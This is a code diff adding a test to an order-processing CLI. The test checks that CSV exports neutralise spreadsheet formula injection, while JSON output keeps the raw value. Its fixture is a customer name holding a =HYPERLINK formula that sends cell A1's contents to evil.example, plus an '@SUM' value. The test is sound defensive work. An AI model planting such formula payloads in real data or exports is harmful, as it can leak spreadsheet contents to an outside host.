@@ -237,3 +237,31 @@ def test_a_bad_output_format_is_refused_by_name(tmp_path: Path) -> None:
 
     assert result.exit_code == 2
     assert "--output" in result.output
+
+
+def test_text_that_would_run_as_a_spreadsheet_formula_is_neutralised_in_csv_listings(
+    potok: Potok, database_url: str
+) -> None:
+    """A customer who calls themselves ``=HYPERLINK(...)`` does not get a formula into the
+    spreadsheet an operator opens the listing in; numbers stay numbers."""
+    build_world(potok, {("MSK", "KET"): 5})
+    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    placed = intake.place_order(
+        potok.uow(),
+        order_command([("KET", 1)], to=MOSCOW, external_id="@SUM(1+1)", customer_name=name),
+        TESTER,
+    )
+    assert isinstance(placed, intake.Placement)
+
+    as_csv = potok_cli(database_url, "orders", "list", "--output", "csv")
+    as_json = potok_cli(database_url, "orders", "list", "--output", "json")
+
+    assert as_csv.exit_code == 0, as_csv.output
+    [header, line] = list(csv.reader(io.StringIO(as_csv.stdout)))
+    row = dict(zip(header, line, strict=True))
+    assert row["customer_name"] == "'" + name
+    assert row["external_id"] == "'@SUM(1+1)"
+    assert row["line_count"] == "1"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)
+    [as_data] = json.loads(as_json.stdout)
+    assert as_data["customer_name"] == name  # JSON is data, not a spreadsheet: left as it is
